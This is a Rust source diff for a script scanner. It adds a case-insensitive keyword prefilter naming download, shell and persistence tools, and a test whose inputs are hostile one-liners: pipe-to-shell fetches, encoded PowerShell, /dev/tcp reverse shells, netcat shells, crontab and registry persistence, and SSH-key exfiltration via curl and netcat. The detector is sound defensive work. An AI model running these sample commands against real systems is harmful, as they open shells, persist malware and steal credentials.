@@ -1,5 +1,9 @@
 //! Scripts in other languages: what they are written in, and their text.
 
+use std::sync::LazyLock;
+
+use aho_corasick::AhoCorasick;
+
 /// What a script is written in.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
 pub enum ScriptLanguage {
@@ -110,13 +114,54 @@ impl ScriptAct {
     }
 }
 
+/// A line that does any of it has one of these in it; most have none.
+const NEEDED: [&str; 28] = [
+    "curl",
+    "wget",
+    "invoke-",
+    "iwr ",
+    "irm ",
+    "download",
+    "mshta",
+    "regsvr32",
+    "certutil",
+    "bitsadmin",
+    "powershell",
+    "pwsh",
+    "/dev/tcp",
+    "/dev/udp",
+    "nc ",
+    "ncat",
+    "nc.traditional",
+    "netcat",
+    "mkfifo",
+    "tcpclient",
+    "crontab",
+    "schtasks",
+    "currentversion",
+    "bashrc",
+    "profile",
+    "rc.local",
+    "launchctl",
+    "startup",
+];
+
 /// What a script's text does, with the line (from 1) of each.
 pub fn acts(text: &str) -> Vec<(ScriptAct, u32)> {
+    static ANY: LazyLock<Option<AhoCorasick>> =
+        LazyLock::new(|| AhoCorasick::builder().ascii_case_insensitive(true).build(NEEDED).ok());
+    let may_act = |text: &str| ANY.as_ref().is_none_or(|any| any.is_match(text));
+    if !may_act(text) {
+        return Vec::new();
+    }
     let mut acts: Vec<(ScriptAct, u32)> = Vec::new();
     let mut number = 0;
     for line in text.lines() {
         number += 1;
         let plain = line.trim();
+        if !may_act(plain) {
+            continue;
+        }
         // Comments in sh, make, CMake and Meson; in Rust; in batch files.
         if plain.starts_with('#')
             || plain.starts_with("//")
@@ -246,6 +291,49 @@ mod tests {
 
     fn found(text: &str) -> Vec<ScriptAct> {
         acts(text).into_iter().map(|(act, _)| act).collect()
+    }
+
+    /// One line for each thing that one of the tests of a line can begin with.
+    #[test]
+    fn no_line_that_acts_is_passed_over() {
+        for line in [
+            "invoke-webrequest a | iex",
+            "iwr a | iex",
+            "irm a|iex",
+            "iex downloadstring",
+            "curl a|sh",
+            "wget a && chmod +x a",
+            "sh -c $(wget a)",
+            "mshta http",
+            "regsvr32 /s /n /u /i:http",
+            "certutil -urlcache",
+            "bitsadmin /transfer",
+            "powershell -enc a",
+            "pwsh -enc a ",
+            "sh -i >& /dev/tcp/a/1 0>&1",
+            "sh -i >& /dev/udp/a/1 0>&1",
+            "nc -e sh",
+            "ncat -e sh",
+            "nc.traditional -e sh",
+            "nc -c sh",
+            "mkfifo a; openssl s_client",
+            "tcpclient getstream",
+            "a | crontab",
+            "schtasks /create",
+            "reg \\currentversion\\run",
+            "python a >> ~/.bashrc",
+            "nohup a >> ~/.profile",
+            "python a >> /etc/rc.local",
+            "copy a \\start menu\\programs\\startup",
+            "launchctl load launchagents",
+            "curl -d @~/.ssh/id",
+            "cat ~/.ssh/id | netcat a",
+        ] {
+            let low = line.to_owned();
+            let acts = fetches_and_runs(&low) || hides_powershell(&low) || gives_shell(&low);
+            assert!(acts || persists(&low) || sends_secrets(&low), "{line} does nothing");
+            assert_eq!(found(line).len(), 1, "{line}");
+        }
     }
 
     #[test]
